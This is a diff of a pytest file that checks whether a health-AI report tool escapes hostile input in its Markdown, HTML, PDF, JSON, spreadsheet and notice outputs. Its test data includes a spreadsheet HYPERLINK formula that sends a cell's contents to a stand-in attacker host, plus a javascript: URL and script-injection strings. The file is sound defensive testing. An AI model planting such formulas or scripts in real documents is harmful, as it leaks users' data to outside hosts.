@@ -24,9 +24,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 HOSTILE = f"{SCRIPT} {LINK} **bold** | cell | {FORMULA}"
 
 
-@pytest.fixture(scope="module")
-def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    out = tmp_path_factory.mktemp("hostile")
+def _render(out: Path, formats: str) -> Path:
+    """The hostile answers file in `out`, and its outputs in `formats`."""
     text = (ROOT / "examples/health-ai/us-chatbot-reject.yaml").read_text(encoding="utf-8")
     text = text.replace("name: CareChat", "name: 'Evil " + SCRIPT.replace("'", "''") + "'")
     text = text.replace("url: https://carechat.example", "url: 'javascript:alert(3)'")
@@ -44,7 +43,7 @@ def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
             "report",
             str(answers),
             "--format",
-            "md,html,pdf,json,xlsx,patient-notice",
+            formats,
             "--draft",  # a rejected tool: its notice can only be a draft
             "--lang",
             "en",
@@ -56,6 +55,11 @@ def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
     )
     assert proc.returncode == 0, proc.stderr
     return out
+
+
+@pytest.fixture(scope="module")
+def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return _render(tmp_path_factory.mktemp("hostile"), "md,html,json,xlsx,patient-notice")
 
 
 def _one(folder: Path, pattern: str) -> Path:
@@ -103,10 +107,11 @@ def test_xlsx_never_holds_a_formula(outputs: Path) -> None:
     assert any("HYPERLINK" in t for t in texts)  # the text is there, as text
 
 
-def test_pdf_shows_the_text_as_text(outputs: Path) -> None:
+@pytest.mark.slow  # WeasyPrint
+def test_pdf_shows_the_text_as_text(tmp_path: Path) -> None:
     if shutil.which("pdftotext") is None:
         pytest.skip("pdftotext (poppler-utils) is not installed; .ci/run installs it")
-    pdf = _one(outputs, "*.report.pdf")
+    pdf = _one(_render(tmp_path, "pdf"), "*.report.pdf")
     text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout
     assert "alert(1)" in text  # printed as characters, not run: PDFs from escaped HTML
 
